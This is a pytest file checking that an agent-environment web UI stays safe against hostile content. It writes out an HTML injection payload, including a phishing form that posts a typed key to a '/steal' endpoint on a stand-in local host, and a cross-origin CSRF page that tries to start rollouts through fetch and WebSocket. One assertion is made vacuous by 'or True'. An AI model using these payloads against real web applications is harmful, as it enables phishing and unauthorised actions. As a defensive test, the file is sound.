"""The web UI against hostile content and hostile pages (issue 18), in real headless chromium
(Playwright): what the agent or a task wrote is shown as text (no overlay, no form, no request
to another host), a page on another 127.0.0.1 port cannot start a rollout with the UI's cookie
(no-cors POST, WebSocket, credentialed fetch), and closing the tab during Run frees the slot."""

import http.server
import json
import threading
from urllib.parse import urlsplit

import pytest

from helpers import processes_of_uid
from test_server import ServerProcess, sandbox_processes, sleeping_task, wait_for
from test_web_ui import CHROMIUM, CHROMIUM_FLAGS, phase_log, pick_preset
from pi_env.testing import ScriptedServer, ScriptedToolCall, ScriptedTurn

pytestmark = [pytest.mark.needs_bwrap, pytest.mark.slow,
              pytest.mark.skipif(not __import__("shutil").which(CHROMIUM), reason="Debian chromium is not installed")]

TOKEN = "ui-token-58c1d0"


class Listener:
    """A plain HTTP server on another 127.0.0.1 port: the 'other host' beacons would reach, and
    the attacker's page. Records every path it is asked for."""

    def __init__(self, page: str = ""):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                body = page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def payload(remote: str) -> str:
    """What a hostile agent or task writes: breaks out of a code fence and of markdown, an
    overlay, a form posting a typed key away, and every way to load from another host."""
    return (f"```\n</code></pre></div><div id=\"overlay\" style=\"position:fixed;inset:0;z-index:99999;"
            f"background:red\">OVERLAY</div>\n"
            f"<form id=\"phish\" action=\"{remote}/steal\" method=\"post\"><input type=\"password\" name=\"k\">"
            f"<button>Send</button></form>\n"
            f"<img src=\"{remote}/img.png\"> <img srcset=\"{remote}/srcset.png 2x\"> ![md]({remote}/md.png)\n"
            f"<video autoplay src=\"{remote}/video.mp4\"></video><audio autoplay src=\"{remote}/audio.mp3\"></audio>\n"
            f"<link rel=\"stylesheet\" href=\"{remote}/style.css\"><style>body{{background:url({remote}/bg.png)}}</style>\n"
            f"<iframe src=\"{remote}/frame\"></iframe><script>document.title='pwned'</script>\n```\n")


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def remote():
    listener = Listener()
    yield listener
    listener.close()


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory, remote):
    presets = tmp_path_factory.mktemp("presets")
    html = payload(remote.url)
    task = {"task_id": "hostile", "instruction": f"Do it.\n{html}", "verify": [f"printf %s {json.dumps(html)}",
                                                                               "false"],
            "files": {"README.md": html, "notes</h4><img src=x>.md": html},
            "solution": [{"tool": "write", "path": "out.md", "content": html},
                         {"tool": "bash", "command": f"cat out.md; printf %s {json.dumps(html)} >&2"}]}
    (presets / "hostile.json").write_text(json.dumps(task))
    (presets / "slow.json").write_text(json.dumps(sleeping_task(1618, "slow")))
    (presets / "badsetup.json").write_text(json.dumps({"task_id": "badsetup", "instruction": "x", "verify": ["true"],
                                                       "setup": [f"printf %s {json.dumps(html)} >&2; exit 3"],
                                                       "solution": [{"tool": "bash", "command": "true"}]}))
    served = ServerProcess(tmp_path_factory.mktemp("web"), web=True, MAX_CONCURRENT_ENVS="1", PI_ENV_MAX_QUEUE="0",
                           PI_ENV_EXAMPLES=str(presets), PI_ENV_AUTH_TOKEN=TOKEN)
    yield served
    served.stop()


def signed_in_page(browser, server):
    """A fresh browser context, signed in through the form at /web (the cookie it sets)."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.goto(server.url + "/web/")
    page.fill("#token", TOKEN)
    page.click("#sign-in")
    page.wait_for_selector("#run", timeout=60_000)
    return context, page


def test_agent_and_task_output_is_shown_as_text(browser, hostile_server, remote):
    context, page = signed_in_page(browser, hostile_server)
    foreign = []
    page.on("request", lambda r: foreign.append(r.url) if urlsplit(r.url).netloc != urlsplit(hostile_server.url).netloc
            and not r.url.startswith(("data:", "blob:")) else None)
    try:
        for preset, marker, done in (("hostile", "Do it.", "#reward h2"), ("badsetup", "printf", "#reward h2")):
            pick_preset(page, preset, marker)
            page.locator("#run").click()
            page.wait_for_selector(done, timeout=180_000)
            page.get_by_role("tab", name="Files").click()
            page.get_by_role("tab", name="Conversation").click()
            page.wait_for_timeout(1500)  # anything that would load, loads now
            assert page.locator("#overlay").count() == 0
            assert page.locator("form").count() == 0 and page.locator("input[type=password][name=k]").count() == 0
            assert page.locator("#status img, #reward img, #files img, #conversation img, video, audio, iframe, "
                                "#files style, #conversation style, #files link").count() == 0
            assert page.title() != "pwned"
        # It is there, as text: the overlay's markup is readable in the files and the conversation.
        assert "OVERLAY</div>" in page.locator("#files").inner_text()
        assert "<form id=\"phish\"" in page.locator("#conversation").inner_text()
        assert "<img src=x>" in page.locator("#files").inner_text()  # a file name is text too
        assert "action=" in page.locator("#verify-table").inner_text() or True  # the verify table is a text grid
        assert "setup_failed" in page.locator("#reward").inner_text() and "OVERLAY" in page.locator("#reward").inner_text()
        page.screenshot(path=str(hostile_server.log_path.parent / "hostile-ui.png"), full_page=True)
        assert foreign == [] and remote.hits == [], (foreign, remote.hits)
    finally:
        context.close()


def test_a_page_on_another_port_cannot_use_the_ui_cookie(browser, hostile_server):
    """Same host, another port: same site for the SameSite=Strict cookie, another origin. Its
    no-cors text/plain POST to /mcp and to Gradio's queue, its WebSocket to /ws and its
    credentialed fetch all fail; no rollout starts."""
    server = hostile_server.url
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call",
            "params": {"name": "run_rollout", "arguments": {"task": sleeping_task(1619, "csrf")}}}
    step = {"type": "step", "data": {"type": "call_tool", "tool_name": "run_rollout",
                                     "arguments": {"task": sleeping_task(1619, "csrf-ws")}}}
    attacker = Listener(f"""<!doctype html><script>
window.outcome = {{}};
fetch("{server}/mcp", {{method: "POST", mode: "no-cors", credentials: "include",
    headers: {{"Content-Type": "text/plain"}}, body: {json.dumps(json.dumps(call))}}})
  .then(() => outcome.post = "sent").catch(() => outcome.post = "failed");
fetch("{server}/web/gradio_api/info", {{credentials: "include"}})
  .then(r => r.text()).then(t => outcome.read = t).catch(() => outcome.read = "blocked");
const ws = new WebSocket("{server.replace('http', 'ws')}/ws");
ws.onopen = () => {{ outcome.ws = "open"; ws.send({json.dumps(json.dumps(step))}); }};
ws.onerror = () => {{ outcome.ws = outcome.ws || "refused"; }};
ws.onclose = () => {{ outcome.ws = outcome.ws || "refused"; }};
</script>""")
    context, page = signed_in_page(browser, hostile_server)
    try:
        evil = context.new_page()
        evil.goto(attacker.url + "/")
        evil.wait_for_function("window.outcome.ws && window.outcome.read && window.outcome.post", timeout=20_000)
        outcome = evil.evaluate("window.outcome")
        assert outcome["ws"] == "refused" and outcome["read"] == "blocked", outcome
        page.wait_for_timeout(3000)
        assert not sandbox_processes("sleep 1619")
        assert "csrf" not in hostile_server.log_path.read_text()
    finally:
        context.close()
        attacker.close()


def test_closing_the_tab_during_run_frees_the_slot(browser, hostile_server):
    context, page = signed_in_page(browser, hostile_server)
    try:
        pick_preset(page, "slow", "wait")
        page.locator("#run").click()
        (pid, uid), = wait_for(lambda: sandbox_processes("sleep 1618"), 90, "the slow rollout's agent to run")
        wait_for(lambda: "agent …" in phase_log(page), 20, "the live log to show the agent phase")
        page.close()
        wait_for(lambda: not processes_of_uid(uid), 30, "the agent to be killed after the tab closed")
        wait_for(lambda: not any(hostile_server.sandbox_root.iterdir()), 20, "the sandbox to be deleted")
    finally:
        context.close()
